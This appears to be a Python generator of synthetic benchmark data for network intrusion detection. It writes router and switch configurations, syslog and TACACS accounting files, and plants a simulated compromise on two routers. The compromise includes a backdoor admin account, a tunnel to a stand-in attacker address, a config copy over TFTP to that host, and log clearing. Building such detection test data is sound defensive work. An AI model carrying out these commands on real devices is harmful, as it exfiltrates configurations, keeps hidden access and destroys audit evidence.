"""An estate of any size for the benches: the same bytes on every machine. Standard library only.

`python3 benches/estate.py DIR [--devices 3000] [--gigabytes 10] [--days 30]`

Configurations of the last day, an inventory, one log of all devices and one file of command
accounting a day. Two of three devices are switches with Smart Install on; on two routers somebody
comes in over the web UI, works in Guest Shell, builds a tunnel and leaves.
"""

import argparse
import random
import sys
from datetime import datetime, timedelta
from pathlib import Path

FIRST = datetime(2026, 9, 1)
INTRUDER = "203.0.113.66"

ROUTER = """\
Building configuration...

!
! Last configuration change at 09:12:44 UTC Wed Sep 30 2026 by mara
!
version 17.9
service timestamps log datetime msec show-timezone year
service password-encryption
platform punt-keepalive disable-kernel-core
!
hostname {name}
!
aaa new-model
aaa authentication login default group tacacs+ local
aaa accounting commands 1 default start-stop group tacacs+
aaa accounting commands 15 default start-stop group tacacs+
!
login on-failure log
login on-success log
!
username rescue privilege 15 secret 9 $9$aaaaaaaaaaaaaa$bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
!
archive
 log config
  logging enable
  notify syslog contenttype plaintext
  hidekeys
!
interface Loopback0
 ip address {address} 255.255.255.255
!
{interfaces}{more}no ip http server
no ip http secure-server
!
logging host 192.0.2.20
access-list 10 permit 192.0.2.0 0.0.0.255
!
tacacs server primary
 address ipv4 192.0.2.49
 key 6 AAAAAAAAAAAAAAAAAAAAAAAA
!
line con 0
 exec-timeout 5 0
line vty 0 4
 access-class 10 in
 transport input ssh
!
ntp server 192.0.2.123
!
end
"""
SWITCH = "spanning-tree mode rapid-pvst\nvtp mode transparent\n!\n"

SETTINGS = """\
format = 1

[organisation]
name = "Example Carrier"
own_prefixes = ["10.0.0.0/8"]

[approved]
management_sources = ["192.0.2.0/24"]
jump_hosts = ["192.0.2.10"]
aaa_servers = ["192.0.2.49"]
log_servers = ["192.0.2.20"]
time_servers = ["192.0.2.123"]
dns_servers = []
snmp_managers = []
transfer_servers = ["192.0.2.69"]
mirror_destinations = []
tunnel_peers = []
local_accounts = ["rescue"]

[[robot]]
account = "collector"
addresses = ["192.0.2.30"]
commands = ["terminal *", "show *", "exit"]
"""

MESSAGES = (
    "%LINK-3-UPDOWN: Interface GigabitEthernet0/0/{n}, changed state to up",
    "%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/0/{n}, changed state to down",
    "%OSPF-5-ADJCHG: Process 1, Nbr 10.0.{n}.2 on GigabitEthernet0/0/{n} from LOADING to FULL, Loading Done",
    "%SEC-6-IPACCESSLOGP: list EDGE denied tcp 198.51.100.{n}(4431) -> 10.9.0.9(22), 1 packet",
    "%BGP-5-ADJCHANGE: neighbor 10.200.0.{n} Up",
    "%SNMP-3-AUTHFAIL: Authentication failure for SNMP req from host 192.0.2.{n}",
)


class Device:
    """A name, an address, a kind."""

    def __init__(self, number):
        self.switch = number % 3 != 0
        self.name = f"{'sw' if self.switch else 'pe'}-{number:04d}"
        self.address = f"10.{100 + number // 250}.{number % 250}.1"
        self.intruded = False

    def configuration(self):
        interfaces = "".join(
            f"interface GigabitEthernet0/0/{port}\n description customer {port:03d}\n"
            f" ip address 10.{port}.{int(self.name[3:]) % 250}.1 255.255.255.252\n load-interval 30\n!\n"
            for port in range(1, 60)
        )
        more = SWITCH if self.switch else ""
        text = ROUTER
        if self.switch:
            text = text.replace("version 17.9", "version 15.2").replace("platform punt-keepalive disable-kernel-core\n", "")
        if self.intruded:
            more += (f"interface Tunnel77\n tunnel source Loopback0\n tunnel destination {INTRUDER}\n!\n"
                     "username cisco_support privilege 15 secret 9 $9$cccccccccccccc$"
                     "ddddddddddddddddddddddddddddddddddddddddddd\n!\n")
        return text.format(name=self.name, address=self.address, interfaces=interfaces, more=more)


def stamp(time):
    return f"{time:%Y-%m-%dT%H:%M:%S}+00:00", f"{time:%b} {time.day:2d} {time:%Y %H:%M:%S}.000 UTC"


def account(time, device, user, source, command):
    return (f"{time:%Y-%m-%d %H:%M:%S} +0000\t{device.address}\t{user}\ttty2\t{source}\tstop\ttask_id=11\t"
            f"timezone=UTC\tservice=shell\tpriv-lvl=15\tcmd={command} <cr>\n")


def intrusion(device, time):
    """What somebody does on a device, as accounting lines and log messages."""
    steps = (
        (0, "enable", None), (20, "terminal length 0", None), (40, "show running-config", None),
        (55, "show tacacs", None), (70, "show cdp neighbors detail", None), (90, "dir bootflash:", None),
        (120, "configure terminal", None), (150, "interface Tunnel77", None),
        (165, f"tunnel destination {INTRUDER}", None), (300, "guestshell enable", None),
        (900, "guestshell destroy", None), (1000, f"copy running-config tftp://{INTRUDER}/{device.name}", None),
        (1100, "show logging", None), (1130, "clear logging", None), (1150, "exit", None),
    )
    lines = [account(time + timedelta(seconds=at), device, "cisco_support", INTRUDER, command)
             for at, command, _ in steps]
    failed = (f"%SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: {INTRUDER}] [localport: 21111] "
              f"[Reason: Login Authentication Failed] at {time:%H:%M:%S} UTC {time:%a %b} {time.day} {time.year}")
    return lines, [(time - timedelta(seconds=60), failed)]


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--devices", type=int, default=3000)
    parser.add_argument("--gigabytes", type=float, default=10)
    parser.add_argument("--days", type=int, default=30)
    arguments = parser.parse_args()
    numbers = random.Random(20260901)
    devices = [Device(number) for number in range(arguments.devices)]
    routers = [device for device in devices if not device.switch]
    victims = {routers[len(routers) // 3].name: 12, routers[len(routers) // 2].name: 14}
    for device in devices:
        device.intruded = device.name in victims
    folder = arguments.folder
    for name in ("configs-2026-09-30", "syslog", "aaa"):
        (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / "seawall.toml").write_text(SETTINGS)
    with open(folder / "inventory.csv", "w") as inventory:
        inventory.write("name,platform,role,primary_ip4\n")
        for device in devices:
            platform, role = ("cisco_ios", "access") if device.switch else ("cisco_xe", "edge")
            inventory.write(f"{device.name},{platform},{role},{device.address}/32\n")
            (folder / "configs-2026-09-30" / device.name).write_text(device.configuration())
    # Every device speaks in turn, so that none is silent for a day; the size says how often.
    each_day = arguments.gigabytes * 1e9 / arguments.days
    rounds = max(24, int(each_day / (150 * len(devices))))
    counts = [0] * len(devices)
    for day in range(arguments.days):
        start = FIRST + timedelta(days=day)
        with open(folder / "syslog" / f"{start:%Y-%m-%d}.log", "w") as log:
            extra = []
            for device in devices:
                if victims.get(device.name) == day + 1:
                    extra += [(time, device, text)
                              for time, text in intrusion(device, start + timedelta(hours=2))[1]]
            for turn in range(rounds):
                time = start + timedelta(seconds=86_390 * turn / rounds)
                relay, own = stamp(time)
                block = []
                for at, device in enumerate(devices):
                    counts[at] += 1
                    message = MESSAGES[int(numbers.random() * 6)].replace("{n}", str(1 + counts[at] % 59))
                    block.append(f"{relay} {device.name} {counts[at]}: {own}: {message}\n")
                log.writelines(block)
                while extra and extra[0][0] <= time:
                    when, device, text = extra.pop(0)
                    relay_then, own_then = stamp(when)
                    log.write(f"{relay_then} {device.name} {counts[0]}: {own_then}: {text}\n")
        with open(folder / "aaa" / f"{start:%Y-%m-%d}.acct", "w") as accounting:
            for at, device in enumerate(devices):
                time = start + timedelta(hours=1, seconds=at)
                for command in ("terminal length 0", "show running-config", "exit"):
                    accounting.write(account(time, device, "collector", "192.0.2.30", command))
            for device in devices:
                if victims.get(device.name) == day + 1:
                    accounting.writelines(intrusion(device, start + timedelta(hours=2))[0])
    print(f"{len(devices)} devices, {rounds} rounds a day, intrusion on {', '.join(victims)}", file=sys.stderr)


if __name__ == "__main__":
    main()
